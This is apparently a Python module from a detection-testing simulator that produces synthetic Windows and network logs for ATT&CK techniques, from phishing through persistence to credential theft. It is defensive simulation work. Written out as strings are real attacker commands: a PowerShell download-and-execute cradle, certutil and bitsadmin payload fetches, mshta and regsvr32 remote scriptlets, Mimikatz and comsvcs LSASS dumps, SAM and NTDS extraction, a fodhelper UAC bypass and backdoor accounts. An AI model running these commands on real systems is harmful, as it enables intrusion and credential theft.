"""Techniques that run on a Windows host: initial access, execution, persistence, privilege
escalation and credential access, defence evasion, impact. Each emits what the technique
really leaves in Sysmon, Security, System and PowerShell logs (and on the wire when it talks).
"""

from __future__ import annotations

import base64
from collections.abc import Callable

from aptwatch.simulate import catalog, winlog
from aptwatch.simulate.attack import PS, AttackCtx, Foothold
from aptwatch.simulate.catalog import Binary
from aptwatch.simulate.org import SYSTEM
from aptwatch.simulate.world import https, lookup, service_ticket, tgt

Emitter = Callable[[AttackCtx, float], None]

MIMIKATZ_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c0de|"
                  "UNKNOWN(00000209A8E6B0F5)")
DUMP_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c0de|"
              "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6dd1|C:\\Windows\\SYSTEM32\\dbgcore.DLL+d5b9")


def _tool(ctx: AttackCtx, name: str, desc: str = "-", original: str = "-") -> Binary:
    """An attacker tool dropped next to the implant."""
    folder = f"C:\\ProgramData\\{ctx.camp.implant_dir}"
    return Binary(f"{folder}\\{name}", desc, "-", "-", original, "-", "")


# ------------------------------------------------------------------------------------------
# Initial access
# ------------------------------------------------------------------------------------------
def phish_attachment(ctx: AttackCtx, t: float) -> None:
    """T1566.001: an Outlook attachment opened in Word; the macro starts a command shell."""
    st, host = ctx.st, ctx.host
    s = st.session
    assert s is not None and s.explorer is not None
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    ol = st.procs.get("outlook") or winlog.spawn(ctx.w.sink, st, t - 30, s.explorer, outlook, f"\"{outlook}\" ")
    st.procs["outlook"] = ol
    doc = ctx.rng.choice(("Invoice_{n}.docm", "Salary_Review_{n}.doc", "Conference_Invitation_{n}.docm",
                          "Order_Confirmation_{n}.doc")).format(n=ctx.rng.randint(1000, 9999))
    folder = f"C:\\Users\\{s.user.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\" \
             f"{ctx.rng.hexstr(8).upper()}"
    path = f"{folder}\\{doc}"
    winlog.file_create(ctx.w.sink, st, t, ol, path)
    word = winlog.spawn(ctx.w.sink, st, t + ctx.rng.uniform(20, 300), ol,
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        f"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{path}\" /o \"\"",
                        cwd=folder + "\\")
    ctx.camp.initial_proc = word
    ctx.camp.new_foothold(host, t)


def template_injection(ctx: AttackCtx, t: float) -> None:
    """T1221: Word fetches a remote template (.dotm) from attacker infrastructure over HTTP."""
    word = ctx.camp.initial_proc or ctx.actor(t)
    domain = ctx.camp.staging_domain
    ip = lookup(ctx.w, ctx.rng, t, ctx.host, word, domain, force_sysmon=True)
    uid, sport = ctx.w.net.conn(ctx.w.sink, t + 0.1, ctx.rng, ctx.host.ip, ip, 80, service="http", duration=0.8,
                                ob=520, rb=48_000, host=ctx.host.key)
    winlog.net_connect(ctx.w.sink, ctx.st, t + 0.1, word, ctx.host.ip, sport, ip, 80)
    ctx.w.net.http(ctx.w.sink, t + 0.1, ctx.rng, ctx.host.ip, ip, domain, "/office/templates/Normal.dotm",
                   user_agent="Microsoft Office Word 2014", resp_len=47_616,
                   mime="application/vnd.ms-word.template.macroEnabled.12", filename="Normal.dotm", uid=uid,
                   sport=sport, conn=False, host=ctx.host.key)


def phish_link(ctx: AttackCtx, t: float) -> None:
    """T1566.002: the user follows a link; the browser downloads an ISO / ZIP / HTA (mark of the web)."""
    st, host = ctx.st, ctx.host
    s = st.session
    assert s is not None and s.explorer is not None
    br = st.procs.get("chrome") or st.procs.get("msedge")
    if br is None:
        path = catalog.binary("msedge.exe").path
        br = winlog.spawn(ctx.w.sink, st, t - 5, s.explorer, path, f"\"{path}\" --single-argument "
                          f"https://{ctx.camp.staging_domain}/s/{ctx.rng.hexstr(10)}")
        st.procs["msedge"] = br
    ext = {"iso": "iso", "hta": "hta", "zip": "zip"}.get(ctx.step.variant, "zip")
    name = ctx.rng.choice(("Proposal_", "Job_Description_", "Meeting_Notes_", "Statement_")) + \
        f"{ctx.rng.randint(100, 999)}.{ext}"
    path = f"C:\\Users\\{s.user.sam}\\Downloads\\{name}"
    ctx.download(t, br, ctx.camp.staging_domain, f"/d/{name}", ctx.rng.randint(300_000, 2_000_000), pe=False)
    winlog.file_create(ctx.w.sink, st, t + 3, br, path)
    winlog.file_stream(ctx.w.sink, st, t + 3.1, br, path, f"https://{ctx.camp.staging_domain}/d/{name}")
    ctx.camp.lure = path
    if ext == "hta":
        mshta = winlog.spawn(ctx.w.sink, st, t + ctx.rng.uniform(20, 200), s.explorer, "mshta.exe",
                             f"\"C:\\Windows\\SysWOW64\\mshta.exe\" \"{path}\" {{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}}"
                             "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}")
        ctx.camp.initial_proc = mshta
    ctx.camp.new_foothold(host, t)


def user_execution(ctx: AttackCtx, t: float) -> None:
    """T1204.002: the user opens the lure; variant `lnk_rundll32`: an LNK in the mounted ISO runs
    rundll32 on a DLL beside it, which becomes the implant."""
    st = ctx.st
    s = st.session
    assert s is not None and s.explorer is not None
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    if ctx.step.variant == "lnk_rundll32":
        drive = "E:\\"
        dll = f"{drive}documents.dll"
        rd = winlog.spawn(ctx.w.sink, st, t, s.explorer, "rundll32.exe",
                          f"\"C:\\Windows\\System32\\rundll32.exe\" {dll},#1", cwd=drive)
        winlog.image_load(ctx.w.sink, st, t + 0.2, rd, Binary(dll, "-", "-", "-", "-", "-", ""), signed=False,
                          hashes=ctx.camp.payload_hashes("documents.dll"))
        implant = ctx.camp.implant_dll(fh)
        winlog.file_create(ctx.w.sink, st, t + 2, rd, implant.path)
        ctx.camp.initial_proc = rd
        p = ctx.camp.start_implant(ctx.w, ctx.rng, t + 5, fh, ctx.truth, parent=rd)
        winlog.terminate(ctx.w.sink, st, t + 8, rd)
        del p
    else:
        parent = ctx.camp.initial_proc or s.explorer
        lure = ctx.camp.lure
        ctx.camp.start_implant(ctx.w, ctx.rng, t + 3, fh, ctx.truth, parent=parent)
        del lure


def exploit_public_app(ctx: AttackCtx, t: float) -> None:
    """T1190 against IIS: exploit requests, then w3wp.exe spawns a shell (the web shell follows)."""
    web = next((h for h in ctx.w.org.hosts if h.role == "web"), None)
    if web is None:
        phish_attachment(ctx, t)
        return
    ctx.host = web
    st = ctx.st
    src = ctx.camp.recon_ip
    for i, path in enumerate(("/Telerik.Web.UI.WebResource.axd?type=rau", "/Telerik.Web.UI.WebResource.axd?type=rau",
                              "/aspnet_client/system_web/4_0_30319/")):
        ctx.w.net.http(ctx.w.sink, t + i * 1.5, ctx.rng, src, web.ip, web.ip, path, method="POST",
                       user_agent=ctx.camp.profile.tooling.user_agent, req_len=ctx.rng.randint(2000, 60_000),
                       resp_len=ctx.rng.randint(100, 900), status=200, host=web.key)
    w3 = st.procs["w3wp"]
    fh = ctx.camp.new_foothold(web, t, account=w3.user, integrity="High", logon_id=w3.logon_id)
    fh.persistence = "webshell"
    ctx.shell(t + 5, "whoami", parent=w3)


def webshell(ctx: AttackCtx, t: float) -> None:
    """T1505.003: an ASPX web shell written by w3wp.exe, then used over HTTP POSTs."""
    st = ctx.st
    if "w3wp" not in st.procs:  # no IIS here: the plan drops its web shell on another server
        winlog.file_create(ctx.w.sink, st, t, ctx.actor(t), "C:\\inetpub\\wwwroot\\errorFE.aspx")
        return
    w3 = st.procs["w3wp"]
    path = f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{ctx.rng.choice(('errorFE', 'help', 'log'))}.aspx"
    winlog.file_create(ctx.w.sink, st, t, w3, path)
    ctx.camp.webshell_uri = "/aspnet_client/system_web/" + path.rsplit("\\", 1)[-1]
    _webshell_post(ctx, t + 30)


def _webshell_post(ctx: AttackCtx, t: float) -> None:
    uri = ctx.camp.webshell_uri
    web = ctx.camp.footholds.get(ctx.host.idx)
    if web is None:
        return
    ctx.w.net.http(ctx.w.sink, t, ctx.rng, ctx.camp.recon_ip, ctx.host.ip, ctx.host.ip, uri, method="POST",
                   user_agent=ctx.camp.profile.tooling.user_agent, req_len=ctx.rng.randint(200, 3000),
                   resp_len=ctx.rng.randint(100, 20_000), host=ctx.host.key)


# ------------------------------------------------------------------------------------------
# Execution
# ------------------------------------------------------------------------------------------
def cmd_shell(ctx: AttackCtx, t: float) -> None:
    """T1059.003: the macro / web shell / implant runs commands through cmd.exe."""
    if ctx.step.command:
        ctx.shell(t, ctx.fill(ctx.step.command.splitlines()[0].strip()))
        return
    parent = ctx.camp.initial_proc
    fh = ctx.foothold
    if fh is not None and fh.persistence == "webshell":
        _webshell_post(ctx, t)
        for i, c in enumerate(("whoami /all", "ipconfig /all", "systeminfo")):
            ctx.shell(t + 1 + i * ctx.rng.uniform(20, 90), c, parent=ctx.st.procs["w3wp"])
        return
    if parent is not None and fh is not None and fh.proc is None:
        cmd, _ = ctx.shell(t, "echo %USERNAME% & hostname", parent=parent)
        ctx.camp.initial_proc = cmd.parent or parent
        return
    ctx.shell(t, "whoami")


def vbscript(ctx: AttackCtx, t: float) -> None:
    """T1059.005: the HTA drops a VBScript stager that wscript runs."""
    st = ctx.st
    parent = ctx.camp.initial_proc or ctx.actor(t)
    s = st.session
    user = s.user.sam if s else "Public"
    vbs = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{ctx.rng.hexstr(6)}.vbs"
    winlog.file_create(ctx.w.sink, st, t, parent, vbs)
    ws = winlog.spawn(ctx.w.sink, st, t + 1, parent, "wscript.exe", f"\"C:\\Windows\\System32\\WScript.exe\" "
                      f"\"{vbs}\" //B //NoLogo")
    ctx.camp.initial_proc = ws


def powershell(ctx: AttackCtx, t: float) -> None:
    """T1059.001: hidden PowerShell with an encoded command - a download cradle, or a host survey."""
    if ctx.step.command:
        ctx.powershell(t, ctx.fill(ctx.step.command))
        return
    parent = ctx.camp.initial_proc
    fh = ctx.foothold
    if ctx.step.variant == "survey" or (fh is not None and fh.proc is not None):
        ctx.powershell(t, "$env:COMPUTERNAME; $env:USERDOMAIN; Get-CimInstance Win32_OperatingSystem | Select "
                          "Caption,Version,OSArchitecture; Get-CimInstance -Namespace root/SecurityCenter2 -ClassName "
                          "AntivirusProduct | Select displayName; "
                          "[System.Net.Dns]::GetHostAddresses($env:COMPUTERNAME)")
        return
    url = f"https://{ctx.camp.staging_domain}/api/{ctx.rng.hexstr(8)}"
    ua = ctx.camp.profile.tooling.user_agent
    script = f"$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','{ua}');" \
             f"IEX ($wc.DownloadString('{url}'))"
    ps, end = ctx.powershell(t, script, parent=parent, keep=True)
    ctx.download(t + 1, ps, ctx.camp.staging_domain, url.split("/", 3)[3], ctx.rng.randint(180_000, 900_000))
    fh = fh or ctx.camp.new_foothold(ctx.host, t)
    winlog.file_create(ctx.w.sink, ctx.st, t + 3, ps, fh.image.path)
    ctx.camp.start_implant(ctx.w, ctx.rng, t + 4, fh, ctx.truth, parent=ps)
    winlog.terminate(ctx.w.sink, ctx.st, end + 5, ps)


def ingress_transfer(ctx: AttackCtx, t: float) -> None:
    """T1105: payload fetched with certutil (or bitsadmin / PowerShell) and started."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    parent = None
    if fh.persistence == "webshell":
        parent = ctx.st.procs["w3wp"]
        _webshell_post(ctx, t)
        fh = ctx.camp.new_foothold(ctx.host, t, account=SYSTEM, integrity="System", logon_id=0x3E7)
    elif fh.proc is None:
        parent = ctx.camp.initial_proc
    url_path = f"/{ctx.rng.hexstr(6)}/{ctx.rng.choice(('update', 'msupdate', 'config'))}.txt"
    dest = fh.image.path
    if ctx.step.variant == "bitsadmin":
        cmd = f"bitsadmin /transfer job{ctx.rng.randint(1, 99)} /download /priority high " \
              f"http://{ctx.camp.staging_domain}{url_path} {dest}"
    else:
        cmd = f"certutil.exe -urlcache -split -f http://{ctx.camp.staging_domain}{url_path} {dest}"
    child, end = ctx.shell(t, cmd, parent=parent, keep=True)
    ctx.download(t + 0.5, child, ctx.camp.staging_domain, url_path, ctx.rng.randint(200_000, 1_200_000), http=True,
                 dest=dest)
    winlog.terminate(ctx.w.sink, ctx.st, end + 2, child)
    if ctx.camp.profile.tooling.implant_kind == "sideload":
        winlog.file_create(ctx.w.sink, ctx.st, end + 3, child, ctx.camp.implant_dll(fh).path)
    if fh.proc is None and fh.persistence != "webshell":
        ctx.camp.start_implant(ctx.w, ctx.rng, end + 5, fh, ctx.truth, parent=parent)


def masquerade(ctx: AttackCtx, t: float) -> None:
    """T1036 / T1036.005: the implant sits in a plausible folder under a Microsoft name."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    if fh.proc is None:
        ctx.camp.start_implant(ctx.w, ctx.rng, t, fh, ctx.truth, parent=ctx.camp.initial_proc)
    else:
        winlog.file_create(ctx.w.sink, ctx.st, t, fh.proc, fh.image.path)


def lolbin(ctx: AttackCtx, t: float) -> None:
    """T1218.*: a signed Windows binary proxies execution (mshta, rundll32, regsvr32)."""
    tech = ctx.step.technique
    parent = ctx.camp.initial_proc or ctx.actor(t)
    if tech == "T1218.005" and parent.name.lower() == "mshta.exe":
        return  # the HTA already ran through mshta (initial access)
    line = {"T1218.005": f"mshta.exe javascript:a=GetObject(\"script:https://{ctx.camp.staging_domain}/x.sct\")"
                         ".Exec();close();",
            "T1218.010": f"regsvr32.exe /s /n /u /i:https://{ctx.camp.staging_domain}/file.sct scrobj.dll",
            "T1218.011": f"rundll32.exe {ctx.camp.implant_dll(ctx.foothold or ctx.camp.new_foothold(ctx.host, t)).path}"
                         ",DllRegisterServer"}.get(tech, "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"")
    ctx.shell(t, line, parent=parent)


def wmi_exec(ctx: AttackCtx, t: float) -> None:
    """T1047 (local): wmic process call create."""
    ctx.shell(t, "wmic process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt\"")


def service_exec(ctx: AttackCtx, t: float) -> None:
    """T1569.002: a service started to run a payload."""
    name = ctx.rng.choice(("WinHttpAutoProxy", "MSDTCx", "WdNisUpd"))
    ctx.shell(t, f"sc.exe start {name}")


# ------------------------------------------------------------------------------------------
# Persistence
# ------------------------------------------------------------------------------------------
def run_key(ctx: AttackCtx, t: float) -> None:
    """T1547.001: HKCU Run value for the implant; it starts again at every logon."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    actor = ctx.actor(t)
    name = ctx.rng.choice(("OneDriveUpdate", "NetworkSetup", "SecurityHealth", "MicrosoftEdgeUpdateCore"))
    sid = fh.account.sid
    key = f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{name}"
    reg, _end = ctx.shell(t, f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name} /t REG_SZ "
                            f"/d \"{fh.implant_cmd.replace(chr(34), '')}\" /f", parent=actor)
    winlog.reg_set(ctx.w.sink, ctx.st, t + 0.3, reg, key, fh.implant_cmd)
    fh.persistence = "logon"
    ctx.st.logon_hooks.append(ctx.camp.logon_hook(fh, ctx.step))


def scheduled_task(ctx: AttackCtx, t: float) -> None:
    """T1053.005: schtasks /create for the implant (4698, the task file, Sysmon 1)."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    actor = ctx.actor(t)
    name = f"\\Microsoft\\Windows\\{ctx.rng.choice(('WindowsUpdate', 'Maintenance', 'NetTrace'))}\\" \
           f"{ctx.rng.choice(('Scheduled Check', 'SyncTask', 'Refresh'))}"
    run_as = "SYSTEM" if fh.account.sid == SYSTEM.sid else fh.account.name
    line = f"schtasks /create /tn \"{name}\" /tr \"{fh.implant_cmd.replace(chr(34), '')}\" /sc daily /st 09:" \
           f"{ctx.rng.randint(10, 59)} /ru {run_as} /f"
    proc, _end = ctx.shell(t, line, parent=actor)
    when = f"{ctx.rng.randint(2024, 2024)}-01-01T09:00:00"
    winlog.task_created(ctx.w.sink, ctx.st, t + 0.4, fh.account if fh.account.sid != SYSTEM.sid
                        else ctx.host.computer_account, fh.logon_id, name,
                        winlog.task_xml(fh.account.qualified, fh.implant_cmd.split("\"")[1] if "\"" in fh.implant_cmd
                                        else fh.implant_cmd, "", when))
    winlog.file_create(ctx.w.sink, ctx.st, t + 0.5, ctx.st.procs["svc_schedule"],
                       "C:\\Windows\\System32\\Tasks" + name)
    if fh.host.role != "workstation" or fh.account.sid == SYSTEM.sid:
        fh.persistence = "task"
    else:
        fh.persistence = "logon"
        ctx.st.logon_hooks.append(ctx.camp.logon_hook(fh, ctx.step))
    del proc


def new_service(ctx: AttackCtx, t: float) -> None:
    """T1543.003: a service for the implant (7045, 4697, the service key)."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t, account=SYSTEM, integrity="System")
    if fh.account.sid != SYSTEM.sid:
        fh = ctx.camp.new_foothold(ctx.host, t, account=SYSTEM, integrity="System", logon_id=0x3E7)
    actor = ctx.actor(t) if fh.proc is not None else (ctx.camp.initial_proc or
                                                       ctx.st.procs.get("w3wp") or ctx.st.procs["services"])
    name = ctx.rng.choice(("VMwareXferSvc", "WinDefendHelper", "NetSetupSvcEx", "IntelAudioSvc"))
    proc, end = ctx.shell(t, f"sc.exe create {name} binPath= \"{fh.implant_cmd.replace(chr(34), '')}\" start= auto "
                             f"DisplayName= \"{name}\"", parent=actor)
    winlog.reg_set(ctx.w.sink, ctx.st, t + 0.3, ctx.st.procs["services"],
                   f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath", fh.implant_cmd)
    winlog.service_installed(ctx.w.sink, ctx.st, t + 0.4, name, fh.implant_cmd, start_type="auto start",
                             installer=proc.user if proc.user.sid != SYSTEM.sid else None)
    fh.persistence = "service"
    if fh.proc is None:
        ctx.camp.start_implant(ctx.w, ctx.rng, end + 2, fh, ctx.truth)


def sideload(ctx: AttackCtx, t: float) -> None:
    """T1574.002 / T1574.001: a signed binary loads the attacker's DLL from its own folder."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    if fh.proc is None:
        ctx.camp.start_implant(ctx.w, ctx.rng, t, fh, ctx.truth)
    else:
        winlog.image_load(ctx.w.sink, ctx.st, t, fh.proc, ctx.camp.implant_dll(fh), signed=False,
                          hashes=ctx.camp.payload_hashes("payload.dll"))


def wmi_subscription(ctx: AttackCtx, t: float) -> None:
    """T1546.003: a permanent WMI event subscription that runs the implant."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    actor = ctx.actor(t)
    name = ctx.rng.choice(("WindowsUpdateEvents", "SCM Event Log Filter", "BVTConsumer2"))
    query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA " \
            "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
    ctx.powershell(t, f"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments "
                      f"@{{Name='{name}';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query=\"{query}\"}};"
                      f"$c=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments "
                      f"@{{Name='{name}';CommandLineTemplate='{fh.implant_cmd}'}};"
                      f"Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments "
                      f"@{{Filter=$f;Consumer=$c}}", parent=actor)
    winlog.wmi_subscription(ctx.w.sink, ctx.st, t + 2, actor.user, name, query, fh.implant_cmd)
    if fh.host.role != "workstation":
        fh.persistence = "wmi"


def create_account(ctx: AttackCtx, t: float) -> None:
    """T1136.001 / T1136.002: a backdoor account (local or domain) added to administrators."""
    name = ctx.rng.choice(("support_388945a0", "helpdesk$", "svc_update", "sqladm"))
    domain = ctx.step.technique == "T1136.002"
    flag = " /domain" if domain else ""
    ctx.shell(t, f"net user {name} P@ssw0rd{ctx.rng.randint(100, 999)}! /add{flag}")
    group = "\"Domain Admins\"" if domain else "administrators"
    ctx.shell(t + 5, f"net {'group' if domain else 'localgroup'} {group} {name} /add{flag}")
    target_host = ctx.w.org.dc_for(ctx.host) if domain else ctx.host
    st = ctx.w.st(target_host)
    actor = ctx.actor(t)
    from aptwatch.simulate.org import Account
    new = Account(name, ctx.w.org.netbios if domain else ctx.host.name, f"{ctx.host.sid}-{ctx.rng.randint(1001, 1099)}")
    winlog.account_event(ctx.w.sink, st, t + 0.5, 4720, actor.user, actor.logon_id, new)
    winlog.account_event(ctx.w.sink, st, t + 0.6, 4722, actor.user, actor.logon_id, new)
    gsid = f"{ctx.w.org.domain_sid}-512" if domain else "S-1-5-32-544"
    winlog.account_event(ctx.w.sink, st, t + 5.5, 4728 if domain else 4732, actor.user, actor.logon_id, new,
                         ("Domain Admins" if domain else "Administrators", gsid))


def account_manipulation(ctx: AttackCtx, t: float) -> None:
    """T1098: a stolen or created account added to a privileged group."""
    user = ctx.camp.stolen_account(False)
    dc = ctx.w.org.dc_for(ctx.host)
    ctx.shell(t, f"net group \"Domain Admins\" {user.sam} /add /domain")
    actor = ctx.actor(t)
    winlog.account_event(ctx.w.sink, ctx.w.st(dc), t + 0.7, 4728, actor.user, actor.logon_id, user,
                         ("Domain Admins", f"{ctx.w.org.domain_sid}-512"))


# ------------------------------------------------------------------------------------------
# Privilege escalation and credential access
# ------------------------------------------------------------------------------------------
def uac_bypass(ctx: AttackCtx, t: float) -> None:
    """T1548.002 (fodhelper): ms-settings handler hijack, fodhelper starts the implant elevated."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    actor = ctx.actor(t)
    sid = fh.account.sid
    key = f"HKU\\{sid}_Classes\\ms-settings\\shell\\open\\command"
    reg, _end = ctx.shell(t, f"reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d "
                            f"\"{fh.implant_cmd.replace(chr(34), '')}\" /f", parent=actor)
    winlog.reg_set(ctx.w.sink, ctx.st, t + 0.3, reg, f"{key}\\(Default)", fh.implant_cmd)
    ctx.shell(t + 1, "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /v DelegateExecute /t "
                     "REG_SZ /f", parent=actor)
    winlog.reg_set(ctx.w.sink, ctx.st, t + 1.3, reg, f"{key}\\DelegateExecute", "(Empty)")
    fod = winlog.spawn(ctx.w.sink, ctx.st, t + 3, actor, "fodhelper.exe", "\"C:\\Windows\\system32\\fodhelper.exe\"",
                       integrity="High")
    elevated = winlog.spawn(ctx.w.sink, ctx.st, t + 3.5, fod, fh.image, fh.implant_cmd, integrity="High",
                            hashes=fh.hashes)
    elevated.label = ctx.truth
    fh.extra_procs.append(elevated)
    fh.proc = elevated
    fh.integrity = "High"
    if fh.needs_session:
        ctx.st.procs[f"user:{ctx.camp.id}"] = elevated
    winlog.terminate(ctx.w.sink, ctx.st, t + 5, fod)


def lsass_dump(ctx: AttackCtx, t: float) -> None:
    """T1003.001: LSASS read by Mimikatz (0x1010), procdump or comsvcs MiniDump (0x1fffff + a .dmp)."""
    st = ctx.st
    lsass = st.procs["lsass"]
    variant = ctx.step.variant or "mimikatz"
    actor = ctx.actor(t)
    if variant == "procdump":
        tool = _tool(ctx, "pd64.exe", "Sysinternals process dump utility", "procdump")
        winlog.file_create(ctx.w.sink, st, t - 30, actor, tool.path)
        p = winlog.spawn(ctx.w.sink, st, t, actor, tool, f"{tool.path} -accepteula -ma {lsass.pid} "
                         f"C:\\ProgramData\\{ctx.camp.implant_dir}\\ls.dmp", integrity="High",
                         hashes=ctx.camp.payload_hashes("pd64.exe"))
        winlog.process_access(ctx.w.sink, st, t + 0.4, p, lsass, "0x1fffff", DUMP_TRACE)
        winlog.file_create(ctx.w.sink, st, t + 1.5, p, f"C:\\ProgramData\\{ctx.camp.implant_dir}\\ls.dmp")
        winlog.terminate(ctx.w.sink, st, t + 4, p)
    elif variant == "comsvcs":
        dump = "C:\\Windows\\Temp\\debug.bin"
        p, _ = ctx.shell(t, f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full",
                         keep=True)
        winlog.process_access(ctx.w.sink, st, t + 0.4, p, lsass, "0x1fffff", DUMP_TRACE)
        winlog.file_create(ctx.w.sink, st, t + 1.5, p, dump)
        winlog.terminate(ctx.w.sink, st, t + 3, p)
    else:
        tool = _tool(ctx, ctx.rng.choice(("m64.exe", "mscorsvc.exe", "netmon.exe")), "mimikatz for Windows",
                     "mimikatz.exe")
        winlog.file_create(ctx.w.sink, st, t - 20, actor, tool.path)
        p = winlog.spawn(ctx.w.sink, st, t, actor, tool, f"{tool.path} \"privilege::debug\" "
                         "\"sekurlsa::logonpasswords\" exit", integrity="High",
                         hashes=ctx.camp.payload_hashes("mimikatz.exe"))
        winlog.process_access(ctx.w.sink, st, t + 0.3, p, lsass, "0x1010", MIMIKATZ_TRACE)
        winlog.process_access(ctx.w.sink, st, t + 0.35, p, lsass, "0x1038", MIMIKATZ_TRACE)
        winlog.terminate(ctx.w.sink, st, t + 2, p)
    ctx.camp.stolen_account(domain_admin=True)


def sam_dump(ctx: AttackCtx, t: float) -> None:
    """T1003.002 / T1003.004: registry hives saved with reg.exe (SAM, SYSTEM; SECURITY for LSA secrets)."""
    hives = ("security", "system") if ctx.step.variant == "lsa" or ctx.step.technique == "T1003.004" \
        else ("sam", "system")
    tt = t
    for hive in hives:
        p, tt = ctx.shell(tt, f"reg save HKLM\\{hive.upper()} C:\\ProgramData\\{ctx.camp.implant_dir}\\{hive}.save /y",
                          keep=False)
        winlog.file_create(ctx.w.sink, ctx.st, tt - 0.05, p, f"C:\\ProgramData\\{ctx.camp.implant_dir}\\{hive}.save")
        tt += ctx.rng.uniform(2, 20)
    ctx.camp.stolen_account(domain_admin=ctx.step.technique == "T1003.004")


def ntds_dump(ctx: AttackCtx, t: float) -> None:
    """T1003.003: ntdsutil IFM (on a DC) after a volume shadow copy."""
    ctx.shell(t, "vssadmin create shadow /for=C:")
    ctx.shell(t + 20, f"ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full "
                      f"C:\\ProgramData\\{ctx.camp.implant_dir}\\ifm\" q q")
    ctx.camp.stolen_account(domain_admin=True)


def dcsync(ctx: AttackCtx, t: float) -> None:
    """T1003.006: directory replication requested by a user account from a non-DC host."""
    user = ctx.camp.stolen_account(domain_admin=True)
    dc = ctx.w.org.dc_for(ctx.host)
    from aptwatch.simulate.world import network_logon
    lid = network_logon(ctx.w, ctx.rng, t, ctx.host, dc, user,
                        spn=f"E3514235-4B06-11D1-AB04-00C04FC2DCD2/{ctx.w.domain_guid[1:-1]}/{ctx.w.org.domain}",
                        privileged=True)
    ctx.w.net.conn(ctx.w.sink, t, ctx.rng, ctx.host.ip, dc.ip, 135, service="dce_rpc", duration=0.01, ob=220,
                   rb=180, host=ctx.host.key)
    ctx.w.net.conn(ctx.w.sink, t + 0.1, ctx.rng, ctx.host.ip, dc.ip, ctx.rng.randint(49664, 49700),
                   service="dce_rpc", duration=ctx.rng.uniform(1, 8), ob=ctx.rng.randint(4000, 9000),
                   rb=ctx.rng.randint(40_000, 400_000), host=ctx.host.key)
    for right in winlog.REPLICATION_RIGHTS:
        winlog.ds_replication(ctx.w.sink, ctx.w.st(dc), t + 0.2, user.account, lid, right, ctx.w.domain_guid)


def kerberoast(ctx: AttackCtx, t: float) -> None:
    """T1558.003: RC4 service tickets requested for every SPN account in a burst."""
    actor = ctx.actor(t)
    ctx.powershell(t, "Add-Type -AssemblyName System.IdentityModel; setspn.exe -T corp -Q */* | Select-String '^CN' "
                      "-Context 0,1 | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken "
                      "-ArgumentList $_.Context.PostContext[0].Trim() }", parent=actor)
    user = actor.user.name
    for svc in ctx.w.org.service_accounts.values():
        if svc.spn:
            service_ticket(ctx.w, ctx.rng, t + ctx.rng.uniform(1, 4), ctx.host, user, svc.spn, svc.sam, svc.sid,
                           enc="0x17")
    ctx.camp.stolen_account(domain_admin=False)


def password_spray(ctx: AttackCtx, t: float) -> None:
    """T1110.003: one password against many accounts: Kerberos pre-auth failures on the DC."""
    dc = ctx.w.org.dc_for(ctx.host)
    dst = ctx.w.st(dc)
    users = ctx.rng.sample(ctx.w.org.users, min(len(ctx.w.org.users), ctx.rng.randint(25, 60)))
    tt = t
    for u in users:
        tt += ctx.rng.uniform(0.5, 8)
        ctx.w.sink.win(tt, dc, winlog.SECURITY, 4771, {
            "TargetUserName": u.sam, "TargetSid": u.sid, "ServiceName": f"krbtgt/{ctx.w.realm}",
            "TicketOptions": "0x40810010", "Status": "0x18", "PreAuthType": "2",
            "IpAddress": f"::ffff:{ctx.host.ip}", "IpPort": str(ctx.rng.port()), "CertIssuerName": "",
            "CertSerialNumber": "", "CertThumbprint": ""}, exec_pid=dst.procs["lsass"].pid)
        ctx.w.net.kerberos(ctx.w.sink, tt - 0.01, ctx.rng, ctx.host.ip, dc.ip, "AS", f"{u.sam}/{ctx.w.realm}",
                           f"krbtgt/{ctx.w.realm}", success=False, error="KDC_ERR_PREAUTH_FAILED", host=ctx.host.key)
    win = ctx.camp.stolen_account(domain_admin=False)
    tgt(ctx.w, ctx.rng, tt + 5, ctx.host, win)


def valid_account(ctx: AttackCtx, t: float) -> None:
    """T1078 / T1078.002: stolen domain credentials used through runas /netonly (4648, logon type 9)."""
    user = ctx.camp.stolen_account(domain_admin=False)
    actor = ctx.actor(t)
